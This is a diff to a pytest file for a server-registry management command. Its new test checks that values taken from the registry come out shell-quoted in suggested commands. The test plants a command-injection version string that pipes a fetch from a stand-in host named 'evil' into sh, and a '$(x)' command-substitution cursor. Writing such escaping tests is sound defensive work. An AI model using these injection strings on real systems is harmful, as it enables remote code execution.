@@ -50,7 +50,7 @@ def test_a_long_list_says_how_to_go_on(server: Registry) -> None:
     text = run("registry")
     assert "clock" in text
     assert "weather" not in text
-    assert "manage.py registry  --cursor com.example/clock" in text
+    assert "manage.py registry --cursor com.example/clock" in text
     assert "weather" in run("registry", "--cursor", "com.example/clock")
 
 
@@ -68,6 +68,16 @@ def test_nothing_found_and_faults_are_said(server: Registry) -> None:
     server.answers["/v0.1/servers"] = (500, b"")
     with pytest.raises(CommandError, match="HTTP 500"):
         run("registry", "other")
+
+
+def test_nothing_of_the_registry_can_be_a_command_of_its_own(server: Registry) -> None:
+    clock = server.servers["com.example/clock"][0]
+    server.servers = {"com.example/clock": [{**clock, "version": "1;curl${IFS}evil|sh"}], "com.example/x": [clock]}
+    server.page = 1
+    assert "add_member 'com.example/clock@1;curl${IFS}evil|sh'" in run("registry")
+    answer = {"servers": [{"server": clock}], "metadata": {"nextCursor": "$(x)"}}
+    server.answers["/v0.1/servers"] = (200, json.dumps(answer).encode())
+    assert "manage.py registry 'a b' --cursor '$(x)'" in run("registry", "a b")
 
 
 def test_a_server_is_proposed_with_values_of_the_command_line(server: Registry) -> None:
